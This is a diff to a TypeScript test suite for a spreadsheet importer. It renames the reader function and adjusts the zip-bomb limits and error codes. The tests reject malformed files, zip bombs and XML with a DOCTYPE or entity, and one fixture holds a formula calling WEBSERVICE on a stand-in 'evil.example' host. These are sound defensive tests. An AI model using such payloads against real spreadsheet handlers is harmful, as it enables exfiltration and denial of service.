@@ -1,9 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { strToU8, zipSync, Zip, ZipDeflate } from 'fflate';
-import { BULK_FILE_MAX_BYTES } from '@rider-portal/domain/constants';
+import { BULK_FILE_LIMITS, BULK_FILE_MAX_BYTES } from '@rider-portal/domain/constants';
 import { AppError } from '../../http/errors.ts';
-import { MAX_DECOMPRESSED_BYTES, inspectXlsx, readXlsxRows } from './xlsx-reader.ts';
+import { inspectXlsx, readAllXlsxRows } from './xlsx-reader.ts';
 import { BULK_COLUMNS, buildBulkTemplate } from './template.ts';
 
 async function keyOf(promise: Promise<unknown> | (() => unknown)): Promise<string | null> {
@@ -66,7 +66,7 @@ describe('spreadsheet safety', () => {
     });
     // A person types the next order under the examples.
     sheet.getRow(4).values = ['Λεμονιά Παπά', '+35799111222', 'Οδός Λήδρας 1, Λευκωσία'];
-    const { header, rows } = await readXlsxRows(new Uint8Array(await wb.xlsx.writeBuffer()));
+    const { header, rows } = await readAllXlsxRows(new Uint8Array(await wb.xlsx.writeBuffer()));
     expect(header).toEqual(BULK_COLUMNS.map((c) => c.header));
     expect(rows).toHaveLength(3);
     expect(rows[2]).toMatchObject({
@@ -82,21 +82,21 @@ describe('spreadsheet safety', () => {
   });
 
   it('refuses a CSV renamed to .xlsx, by its content', async () => {
-    expect(await keyOf(readXlsxRows(strToU8('name,phone\nMaria,+35799123456\n')))).toBe(
+    expect(await keyOf(readAllXlsxRows(strToU8('name,phone\nMaria,+35799123456\n')))).toBe(
       'bulk.file-format-invalid',
     );
   });
 
   it('refuses a ZIP that is not a spreadsheet', async () => {
-    expect(await keyOf(readXlsxRows(zipSync({ 'hello.txt': strToU8('hi') })))).toBe(
+    expect(await keyOf(readAllXlsxRows(zipSync({ 'hello.txt': strToU8('hi') })))).toBe(
       'bulk.file-format-invalid',
     );
   });
 
   it('refuses a zip bomb while reading it, by expanded bytes', async () => {
-    const bomb = zipBomb(MAX_DECOMPRESSED_BYTES + 1024 * 1024);
+    const bomb = zipBomb(BULK_FILE_LIMITS.expandedBytes + 1024 * 1024);
     expect(bomb.byteLength).toBeLessThan(BULK_FILE_MAX_BYTES);
-    expect(await keyOf(() => inspectXlsx(bomb))).toBe('bulk.file-format-invalid');
+    expect(await keyOf(() => inspectXlsx(bomb))).toBe('bulk.file-too-complex');
   });
 
   it('refuses a part with a DOCTYPE or an entity, resolving nothing', async () => {
@@ -106,7 +106,7 @@ describe('spreadsheet safety', () => {
       ),
       'xl/workbook.xml': strToU8('<?xml version="1.0"?><workbook/>'),
     });
-    expect(await keyOf(readXlsxRows(evil))).toBe('bulk.file-format-invalid');
+    expect(await keyOf(readAllXlsxRows(evil))).toBe('bulk.file-format-invalid');
   });
 
   it('reads formulas as their cached values, never evaluating them', async () => {
@@ -116,7 +116,7 @@ describe('spreadsheet safety', () => {
       s.addRow(['Maria', { formula: 'SUM(1,1)', result: 12.5 }]);
       s.addRow(['Nikos', { formula: 'WEBSERVICE("http://evil.example")', result: undefined }]);
     });
-    const { rows } = await readXlsxRows(bytes);
+    const { rows } = await readAllXlsxRows(bytes);
     expect(rows.map((r) => r.values[1])).toEqual([12.5, null]);
   });
 
@@ -131,7 +131,7 @@ describe('spreadsheet safety', () => {
       s.addRow(['  ']);
       s.addRow(['Nikos']);
     });
-    const { header, rows } = await readXlsxRows(bytes);
+    const { header, rows } = await readAllXlsxRows(bytes);
     expect(header).toEqual(['Customer name']);
     expect(rows.map((r) => [r.rowNumber, r.values[0]])).toEqual([
       [2, 'Maria'],
@@ -158,7 +158,7 @@ describe('spreadsheet safety', () => {
       s.addRow(['Customer name']);
       for (const n of names) s.addRow([n]);
     });
-    const { rows } = await readXlsxRows(bytes);
+    const { rows } = await readAllXlsxRows(bytes);
     expect(rows.map((r) => r.values[0])).toEqual(names);
   });
 });
